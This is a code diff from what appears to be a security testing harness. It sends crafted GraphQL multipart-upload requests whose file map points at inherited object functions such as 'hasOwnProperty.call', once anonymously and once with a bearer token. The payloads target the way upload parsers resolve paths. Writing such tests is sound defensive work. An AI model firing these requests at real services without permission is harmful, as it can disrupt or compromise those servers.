@@ -7,7 +7,7 @@ const CREATE = 'mutation ($input: CreateEntryInput!) { createEntry(input: $input
 const field = (name: string, value: string) =>
   `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
 
-/** One request whose map leads to a function that all objects inherit. */
+/** One request whose map leads to a function that all objects inherit, from a visitor and with a token that counts. */
 export async function inheritedPath(context: AttackContext): Promise<void> {
   await sendMap(context, ['hasOwnProperty.call'], '{"query":"{__typename}"}');
 }
@@ -35,10 +35,13 @@ export async function uploadMaps(context: AttackContext): Promise<void> {
 const OPERATION = JSON.stringify({ query: CREATE, variables: { input: { firstName: 'Ada', fishPhoto: null } } });
 
 async function sendMap(context: AttackContext, paths: readonly string[], operations = OPERATION): Promise<void> {
-  const body = `${field('operations', operations) + field('map', JSON.stringify({ 0: paths }))}--${BOUNDARY}--\r\n`;
-  await send(context, '/graphql', {
-    method: 'POST',
-    headers: { 'apollo-require-preflight': '1', 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
-    body,
-  });
+  const file = `--${BOUNDARY}\r\ncontent-disposition: form-data; name="0"; filename="f.jpg"\r\n\r\nf\r\n`;
+  const fields = field('operations', operations) + field('map', JSON.stringify({ 0: paths }));
+  const headers = {
+    'apollo-require-preflight': '1',
+    'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
+  };
+  const question = { method: 'POST', body: `${fields}${file}--${BOUNDARY}--\r\n` };
+  await send(context, '/graphql', { ...question, headers });
+  await send(context, '/graphql', { ...question, headers: { ...headers, authorization: `Bearer ${context.token}` } });
 }
